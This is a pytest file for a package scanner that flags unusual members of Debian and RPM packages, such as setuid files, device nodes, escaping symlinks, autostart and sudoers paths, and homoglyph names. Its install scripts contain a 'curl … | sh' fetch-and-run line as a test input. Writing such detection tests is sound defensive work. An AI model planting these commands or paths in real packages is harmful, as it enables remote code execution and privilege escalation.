"""What is unusual in a package: its members, in both formats, and how much of it is told."""

from __future__ import annotations

import stat
import tarfile
from dataclasses import replace
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from entrepot.contracts import ReusableScanner
from entrepot.errors import SettingsError
from entrepot.models import Status, Verdict
from entrepot_plugins.rpm.format import RpmFormat
from entrepot_plugins.rpm.tags import Tag, Type
from entrepot_plugins.rpm.writing import Value
from entrepot_plugins.scanners.contents import ContentsScanner
from entrepot_plugins.scanners.contents.rules import RULES
from support.corpus import corpus
from support.debs import ar_archive, compress, make_deb, tar_archive
from support.hostile_debs import FORMAT, control, member
from support.rpms import Member, make_rpm
from support.scans import scan_of

DEB_KINDS = {
    stat.S_IFREG: tarfile.REGTYPE,
    stat.S_IFDIR: tarfile.DIRTYPE,
    stat.S_IFLNK: tarfile.SYMTYPE,
    stat.S_IFCHR: tarfile.CHRTYPE,
    stat.S_IFBLK: tarfile.BLKTYPE,
    stat.S_IFIFO: tarfile.FIFOTYPE,
}


class One(NamedTuple):
    """A member of a package."""

    path: str
    mode: int = stat.S_IFREG | 0o644
    target: str = ""


def deb_of(folder: Path, *members: One) -> Path:
    extra = []
    for one in members:
        info, _ = member(one.path, DEB_KINDS[stat.S_IFMT(one.mode)], one.target)
        info.mode, info.uname, info.gname = stat.S_IMODE(one.mode), "root", "root"
        extra.append((info, b""))
    path = folder / "hello_1.0-1_amd64.deb"
    data = compress(tar_archive({}, extra), "gz")
    path.write_bytes(ar_archive([FORMAT, control(), ("data.tar.gz", data)]))
    return path


def rpm_of(folder: Path, *members: One) -> Path:
    return make_rpm(folder, files=[Member(f"/{one.path}", one.target.encode(), one.mode) for one in members])


def verdict_of(path: Path, settings: dict[str, Any] | None = None) -> Verdict:
    package_format = RpmFormat() if path.suffix == ".rpm" else None
    artifact, context = scan_of(path, uploaded=True, package_format=package_format)
    return ContentsScanner().scan(artifact, replace(context, settings=settings or {}))


def ids(verdict: Verdict) -> list[tuple[str, str]]:
    return [(finding.id, finding.severity) for finding in verdict.findings]


REG, DIR, LNK = stat.S_IFREG, stat.S_IFDIR, stat.S_IFLNK
UNUSUAL = [
    (One("usr/bin/su", REG | 0o4755), "set-user-id", "high"),
    (One("usr/bin/mail", REG | 0o2755), "set-group-id", "high"),
    (One("usr/lib/sda", stat.S_IFBLK | 0o600), "device-node", "high"),
    (One("usr/lib/tty", stat.S_IFCHR | 0o600), "device-node", "high"),
    (One("usr/lib/pipe", stat.S_IFIFO | 0o600), "device-node", "medium"),
    (One("usr/share/all", REG | 0o666), "world-writable", "high"),
    (One("var/lib/all", DIR | 0o777), "world-writable", "high"),
    (One("usr/share/x", LNK | 0o777, "/usr/share/y"), "symlink-absolute", "low"),
    (One("usr/share/x", LNK | 0o777, "../../../etc/passwd"), "symlink-escapes", "high"),
    (One("usr/share/x", LNK | 0o777, "/tmp/x"), "symlink-unusual", "medium"),
    (One("usr/share/x", LNK | 0o777, "../../proc/self/mem"), "symlink-unusual", "medium"),
    (One("usr/local/bin/x"), "unusual-place", "medium"),
    (One("home/user/x"), "unusual-place", "medium"),
    (One("tmp/x"), "unusual-place", "medium"),
    (One("var/tmp/x"), "unusual-place", "medium"),
    (One("odd"), "unusual-place", "medium"),
    (One("etc/cron.d/x"), "runs-by-itself", "medium"),
    (One("etc/ld.so.preload"), "runs-by-itself", "high"),
    (One("etc/profile.d/x.sh"), "runs-by-itself", "medium"),
    (One("etc/systemd/system/x.service"), "runs-by-itself", "medium"),
    (One("usr/lib/udev/rules.d/90-x.rules"), "runs-by-itself", "medium"),
    (One("etc/sudoers.d/x"), "grants-access", "medium"),
    (One("etc/pam.d/x"), "grants-access", "medium"),
    (One("etc/apt/sources.list.d/x.list"), "adds-trust", "medium"),
    (One("etc/apt/trusted.gpg.d/x.gpg"), "adds-trust", "medium"),
    (One("etc/yum.repos.d/x.repo"), "adds-trust", "medium"),
    (One("etc/pki/rpm-gpg/x"), "adds-trust", "medium"),
    (One("usr/share/a\u202eb"), "odd-name", "high"),
    (One("usr/bin/b\u0430sh"), "odd-name", "medium"),
    (One("usr/bin/sh "), "odd-name", "medium"),
]
USUAL = [
    One("usr/bin/hello", REG | 0o755),
    One("var/lib/shared", DIR | 0o1777),
    One("var/lib/group", DIR | 0o2775),
    One("usr/lib/systemd/system/hello.service"),
    One("etc/systemd/system", DIR | 0o755),
    One("usr/lib/systemd/system/masked.service", LNK | 0o777, "/dev/null"),
    One("usr/share/doc/x", LNK | 0o777, "../../lib/x"),
    One("usr/lib/conf", LNK | 0o777, "/etc/hello.conf"),
    One("opt/vendor/x"),
    One("usr/share/\u00e9t\u00e9 \u0434\u043e\u043c"),
]


@pytest.mark.parametrize("make", [deb_of, rpm_of], ids=["deb", "rpm"])
@pytest.mark.parametrize(("one", "rule", "severity"), UNUSUAL, ids=[f"{one.path}-{rule}" for one, rule, _ in UNUSUAL])
def test_what_is_unusual_is_found_in_both_formats(
    tmp_path: Path, make: Any, one: One, rule: str, severity: str
) -> None:
    verdict = verdict_of(make(tmp_path, one))
    assert (verdict.status, verdict.reason) == (Status.WARN, "unusual")
    assert ids(verdict) == [(rule, severity)]
    assert verdict.evidence[rule] == 1


@pytest.mark.parametrize("make", [deb_of, rpm_of], ids=["deb", "rpm"])
def test_what_is_usual_is_not_found(tmp_path: Path, make: Any) -> None:
    verdict = verdict_of(make(tmp_path, *USUAL))
    assert (verdict.status, verdict.reason, verdict.findings) == (Status.PASS, "usual", ())


def test_file_capabilities_are_found_where_the_format_has_them(tmp_path: Path) -> None:
    files = [Member("/usr/bin/ping", mode=REG | 0o755), Member("/usr/bin/plain", mode=REG | 0o755)]
    capabilities = Value(Tag.FILECAPS, Type.STRING_ARRAY, [b"cap_net_raw=ep", b""])
    verdict = verdict_of(make_rpm(tmp_path, files=files, extra=[capabilities]))
    (finding,) = verdict.findings
    assert (finding.id, finding.where) == ("file-capabilities", "usr/bin/ping")
    assert finding.summary == "whoever runs it has cap_net_raw=ep"


def test_of_very_many_findings_ten_are_told_and_the_rest_counted(tmp_path: Path) -> None:
    members = [One(f"usr/bin/{number:05}", REG | 0o4755) for number in range(2000)]
    verdict = verdict_of(deb_of(tmp_path, *members))
    assert len(verdict.findings) == 11
    assert verdict.findings[-1].summary == "and 1990 more"
    assert verdict.evidence["set-user-id"] == verdict.findings[-1].data["count"] == 2000


def test_findings_have_nothing_that_a_terminal_obeys(tmp_path: Path) -> None:
    (finding,) = verdict_of(deb_of(tmp_path, One("usr/share/a\u202eb"))).findings
    assert finding.where == r"usr/share/a\u202eb"


def test_a_package_that_cannot_be_read_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "hello_1.0-1_amd64.deb"
    path.write_bytes(b"<html>")
    verdict = verdict_of(path)
    assert (verdict.status, verdict.reason) == (Status.ERROR, "error")


# ------------------------------------------------------------------------------------------------------- scripts


def test_scripts_of_both_formats_are_looked_at(tmp_path: Path) -> None:
    deb = make_deb(tmp_path, scripts={"postinst": b"#!/bin/sh\ncurl https://example.org/x | sh\n"})
    rpm = make_rpm(tmp_path, scriptlets={"post": "curl https://example.org/x | sh\n"}, interpreter="/bin/sh")
    for path, where in ((deb, "postinst"), (rpm, "%post")):
        verdict = verdict_of(path)
        assert [(finding.id, finding.where) for finding in verdict.findings] == [
            ("script-fetches", where),
            ("script-pipes-to-shell", where),
        ]


@pytest.mark.parametrize(("own", "found"), [(True, []), (False, [("script-changes-others", "medium")])])
def test_programs_that_a_script_changes_may_be_the_packages_own(
    tmp_path: Path, own: bool, found: list[tuple[str, str]]
) -> None:
    files = {"usr/bin/tool" if own else "usr/share/x": b""}
    path = make_deb(tmp_path, files=files, scripts={"postinst": b"#!/bin/sh\nsed -i s/a/b/ /usr/bin/tool\n"})
    assert ids(verdict_of(path)) == found


# ------------------------------------------------------------------------------------------------------ settings


@pytest.mark.parametrize(
    ("settings", "status", "reason"),
    [
        ({"set-user-id": "ignore"}, Status.PASS, "usual"),
        ({"set-user-id": "review"}, Status.REVIEW, "unusual"),
        ({"set-user-id": "block"}, Status.BLOCK, "unusual"),
        ({"world-writable": "block"}, Status.WARN, "unusual"),
        ({"allow": ["usr/bin/su"]}, Status.PASS, "usual"),
        ({"allow": "/usr/bin/*"}, Status.PASS, "usual"),
        ({"allow": ["usr/bin/sudo"]}, Status.WARN, "unusual"),
    ],
)
def test_settings_say_what_a_finding_leads_to(
    tmp_path: Path, settings: dict[str, Any], status: Status, reason: str
) -> None:
    verdict = verdict_of(deb_of(tmp_path, One("usr/bin/su", REG | 0o4755)), settings)
    assert (verdict.status, verdict.reason) == (status, reason)


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        ({"set-user-id": "no"}, "scanners.contents.set-user-id must be one of ignore, warn, review, block"),
        ({"setuid": "warn"}, "scanners.contents.setuid is not known"),
        ({"allow": [1]}, "scanners.contents.allow must be a text or an array of texts"),
    ],
)
def test_settings_that_cannot_be_used_are_named(tmp_path: Path, settings: dict[str, Any], message: str) -> None:
    with pytest.raises(SettingsError) as raised:
        verdict_of(deb_of(tmp_path), settings)
    assert raised.value.message.startswith(message)


def test_every_finding_is_documented() -> None:
    text = (Path(__file__).parents[3] / "docs" / "scanners.md").read_text(encoding="utf-8")
    assert [rule for rule in RULES if f"`{rule}`" not in text] == []


def test_a_verdict_holds_as_long_as_the_rules_do(tmp_path: Path) -> None:
    scanner = ContentsScanner()
    assert isinstance(scanner, ReusableScanner)
    artifact, context = scan_of(make_deb(tmp_path))
    basis = scanner.basis(context)
    assert basis
    assert basis.tool_version == scanner.scan(artifact, context).tool_version == "1"


# ----------------------------------------------------------------------------------------------------- real packages


@pytest.mark.corpus
@pytest.mark.parametrize(
    ("path", "found"),
    [
        ("deb/debian-archive/dash_0.5.12-2_amd64.deb", set()),
        ("deb/debian-archive/hello_2.10-3_amd64.deb", set()),
        ("deb/debian-archive/vim-tiny_2%3a9.0.1378-2+deb12u2_amd64.deb", set()),
        ("deb/debian-archive/tzdata_2026b-0+deb12u1_all.deb", set()),
        ("deb/debian-archive/anacron_2.3-36_amd64.deb", {"runs-by-itself"}),
        ("deb/debian-archive/base-passwd_3.6.1_amd64.deb", {"script-grants-access"}),
        ("deb/pydeb-s3/fixtures/test-pkg-full_1.0.0_all.deb", {"unusual-place"}),
        ("rpm/pulp-fixtures/assets/bear-4.1-1.noarch.rpm", {"unusual-place"}),
    ],
)
def test_real_packages_are_told_as_they_are(path: str, found: set[str]) -> None:
    assert {finding.id for finding in verdict_of(corpus(*path.split("/"))).findings} == found
